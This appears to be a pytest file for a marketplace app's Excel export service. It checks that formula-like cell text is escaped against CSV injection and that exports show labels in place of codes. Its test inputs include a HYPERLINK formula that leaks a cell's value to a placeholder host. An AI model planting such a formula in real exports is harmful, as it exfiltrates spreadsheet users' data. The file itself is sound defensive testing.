"""Excel exports: text that a spreadsheet would run as a formula is written as text, in every
workbook we write (OWASP "CSV injection")."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from marketplace.services import exports

FORMULA_LIKE = ['=HYPERLINK("http://x/?leak="&B2,"x")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"]


def _saved(wb: Workbook):
    out = io.BytesIO()
    wb.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).active


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_formula_like_text_is_written_as_a_string(value):
    wb = Workbook()
    cell = exports.write_text(wb.active.cell(row=1, column=1), value)
    assert cell.data_type == "s" and cell.value == "'" + value
    read = _saved(wb)["A1"]
    assert read.data_type == "s"
    assert read.value == ("'" + value).replace("\r", "\n")  # XML reads a lone CR as LF


@pytest.mark.parametrize("value", ["正常的说明", "a=b", 5, -5, 2.5])
def test_other_values_are_written_as_they_are(value):
    wb = Workbook()
    exports.write_text(wb.active.cell(row=1, column=1), value)
    read = _saved(wb)["A1"]
    assert read.value == value
    assert read.data_type == ("s" if isinstance(value, str) else "n")  # numbers stay numbers


def test_headers_of_an_export_are_text_too():
    body = exports.workbook([("sheet", ["=1+1", "名称"], [["-2+3", 7]])])
    sheet = load_workbook(io.BytesIO(body)).active
    assert [c.value for c in sheet[1]] == ["'=1+1", "名称"]
    assert [c.value for c in sheet[2]] == ["'-2+3", 7]
    assert all(c.data_type == "s" for c in sheet[1]) and sheet["B2"].data_type == "n"


def _sheet(body: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(body)).active.iter_rows(values_only=True))


def test_exports_name_items_regions_units_and_tags_not_codes(
    db, users, make_offer, make_household, make_need
):
    from marketplace.models import User
    from marketplace.services import listings

    # The reader's words come from the web layer; here each code is marked with its vocabulary.
    words = exports.Words(t=lambda m: m, label=lambda vocabulary, code: f"<{vocabulary}:{code}>")
    make_offer(users["org"], items=["02-02", "09-01"], regions=["330102001", "330106"], unit="hour")
    household = make_household(users["hub_staff"], tags=["elderly", "disabled"])
    make_need(users["hub_staff"], household)
    with db() as s:
        admin, staff = s.get(User, users["admin"].id), s.get(User, users["hub_staff"].id)
        heading, row = _sheet(
            exports.offers(
                s,
                actor=admin,
                q="",
                status="",
                sort=listings.parse_sort(None, listings.OFFER_SORTS, "-id"),
                words=words,
            )
        )[:2]
        cells = dict(zip(heading, row, strict=True))
        assert cells["Items"] == "<item:02-02>, <item:09-01>"
        assert cells["Regions"] == "清波街道, 西湖区"
        assert cells["Unit"] == "<unit:hour>"
        heading, row = _sheet(
            exports.households(
                s,
                actor=staff,
                f=listings.HouseholdFilter(),
                sort=listings.parse_sort(None, listings.HOUSEHOLD_SORTS, "-id"),
                words=words,
            )
        )[:2]
        cells = dict(zip(heading, row, strict=True))
        assert cells["Tags"] == "<tag:disabled>, <tag:elderly>"
        assert cells["Source"] == "<source:monitored>"  # 对象来源, by its label
        heading, row = _sheet(
            exports.needs(
                s,
                actor=staff,
                f=listings.NeedFilter(),
                sort=listings.parse_sort(None, listings.NEED_SORTS, "-id"),
                words=words,
            )
        )[:2]
        assert dict(zip(heading, row, strict=True))["Item"].startswith("<item:")


def test_the_users_export_names_the_hub_and_the_organisation(db, users):
    from marketplace.models import Hub, Organisation, User
    from marketplace.services import listings

    words = exports.Words(t=lambda m: m, label=lambda vocabulary, code: code)
    with db() as s:
        body = exports.users(
            s,
            actor=s.get(User, users["admin"].id),
            q="",
            role="",
            sort=listings.parse_sort(None, listings.USER_SORTS, "-id"),
            words=words,
        )
        rows = _sheet(body)
        by_user = {r[1]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
        staff, org = users["hub_staff"], users["org"]
        assert by_user[staff.username]["Hub"] == s.get(Hub, staff.hub_id).name
        assert by_user[org.username]["Organisation"] == s.get(Organisation, org.org_id).name
        assert by_user[users["admin"].username]["Hub"] is None  # empty cell, not an id
